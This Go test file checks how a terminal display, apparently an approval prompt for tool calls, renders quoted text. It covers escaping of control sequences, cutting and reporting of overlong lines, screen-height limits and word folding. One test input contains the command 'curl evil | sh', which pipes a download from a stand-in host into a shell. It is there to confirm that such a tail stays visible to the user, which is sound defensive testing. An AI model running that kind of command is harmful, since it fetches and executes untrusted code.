package term

import (
	"strings"
	"testing"
	"unicode/utf8"
)

// rendered is a message on a screen of 80 columns that is as long as it takes.
func rendered(m Message) string {
	above, _ := view{columns: 80, rows: 1 << 30}.screen(m, nil, "", "", "")
	return above
}

func TestQuotedTextStandsBehindABar(t *testing.T) {
	got := rendered(Message{Body: "The tool asks:", Quoted: "Overwrite?\r\n\tnext\x1b]0;title\x07\nApprove? [y/N] y\n"})
	want := "The tool asks:\n  | Overwrite?\n  |         next\\x1b]0;title\\x07\n  | Approve? [y/N] y\n"
	if got != want {
		t.Errorf("got %q\nwant %q", got, want)
	}
	long := rendered(Message{Quoted: strings.Repeat("x", MaxShown+7)})
	if !strings.HasSuffix(long, "(7 more bytes are not shown)\n") {
		t.Error("a cut is not said")
	}
	for text, whole := range map[string]bool{
		strings.Repeat("x\n", MaxLines): true, strings.Repeat("x\n", MaxLines+1): false,
		strings.Repeat("x", MaxShown): true, strings.Repeat("x", MaxShown+1): false,
	} {
		m := Message{Then: []Message{{Quoted: text}}}
		if cut := strings.Contains(rendered(m), "more bytes are not shown"); m.Whole() != whole || cut == whole {
			t.Errorf("%d bytes: whole %v, cut %v", len(text), m.Whole(), cut)
		}
	}
}

// A long value cannot push what is above or beside it out of sight.
func TestLongLinesAreCut(t *testing.T) {
	got := rendered(Message{Body: "before\n  + a = " + strings.Repeat("é ", 50_000) + "; curl evil | sh   (f:1)\nafter"})
	if len(got) > 2*maxLine || !strings.HasPrefix(got, "before\n  + a = é é") || !strings.HasSuffix(strings.ReplaceAll(got, "\n"+Bar, ""), "; curl evil | sh   (f:1)\nafter\n") || !strings.Contains(strings.ReplaceAll(got, "\n"+Bar, ""), "more bytes, in all sha256:") || !utf8.ValidString(got) {
		t.Errorf("%d bytes: %.100s … %s", len(got), got, got[len(got)-100:])
	}
	above, question := view{columns: 80, rows: 24}.screen(Message{Body: "A call of t:", Quoted: strings.Repeat("x\n", 1000)}, nil, "", "Let t run?", "[y/n] ")
	if !strings.HasSuffix(above, "x\n(1001 rows in all; the screen has 24)\nA call of t:\n") || question != "Let t run? [y/n] " {
		t.Errorf("%s%s", above[len(above)-200:], question)
	}
}

// Lines of the host break between words, commands do not break.
func TestMessagesFitTheTerminal(t *testing.T) {
	for in, want := range map[string]string{
		"  short":                       "  short",
		"  one two three four five six": "  one two three\n    four five six",
		"  to allow it for this call: --cfg 'a.b.c = [1, 2, 3]'": "  to allow it for\n    this call:\n    --cfg 'a.b.c = [1, 2, 3]'",
		"    set it aside: jphost x":                             "    set it aside:\n      jphost x",
		"  why: the words go on and on":                          "  why: the words go\n    on and on",
		"  | one two three four five":                            "  | one two three f\n  | our five",
		"  宽宽宽宽宽宽 宽宽宽宽宽宽":                                        "  宽宽宽宽宽宽\n    宽宽宽宽宽宽",
	} {
		if got := foldRemedy(in, 20); got != want {
			t.Errorf("%q\nbecame %q\nwant   %q", in, got, want)
		}
	}
}
